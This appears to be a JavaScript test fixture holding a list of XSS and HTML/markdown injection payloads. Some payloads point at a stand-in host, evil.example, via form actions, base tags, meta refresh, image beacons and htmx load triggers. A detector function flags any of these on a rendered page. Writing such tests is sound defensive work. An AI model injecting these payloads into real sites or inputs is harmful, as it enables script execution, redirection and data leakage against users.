// Texts that try to become more than text, of the list in the threat model.
export const host = "evil.example";

export const payloads = [
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `javascript:alert(1)`,
  `JaVaScRiPt&#58;alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `</script><script>alert(1)</script>`,
  `<a href="https://${host}" target=_blank>x</a>`,
  `<form action=//${host}><button>x</button></form>`,
  `<base href=//${host}>`,
  `<meta http-equiv=refresh content=0;url=//${host}>`,
  `<style>@import '//${host}'</style>`,
  `[x](javascript:alert(1))`,
  `![x](https://${host}/p.png)`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `' hx-get="https://${host}/" hx-trigger="load" x='`,
  `\u202etxt.exe`,
];

// all of them in one, for fields with room.
export const all = payloads.join(" ");

// found lists what on a page can only have come from a payload.
export function found() {
  const wrong = [
    "[onerror], [onload], [srcdoc]", "base, iframe, object, embed, style", "meta[http-equiv]", "script:not([src^='/assets/'])",
    "[action*='evil.example'], [src*='evil.example'], [hx-get*='evil.example'], [formaction]:not([formaction^='/']), [formaction^='//']", "a[target]",
  ].flatMap((s) => [...document.querySelectorAll(s)].map((e) => e.outerHTML.slice(0, 200)));
  for (const e of document.querySelectorAll("a[href]")) {
    if (!["http:", "https:"].includes(e.protocol)) wrong.push(e.outerHTML.slice(0, 200));
    if (e.origin !== location.origin && !/nofollow/.test(e.rel)) wrong.push(`without rel: ${e.outerHTML.slice(0, 200)}`);
  }
  return wrong;
}
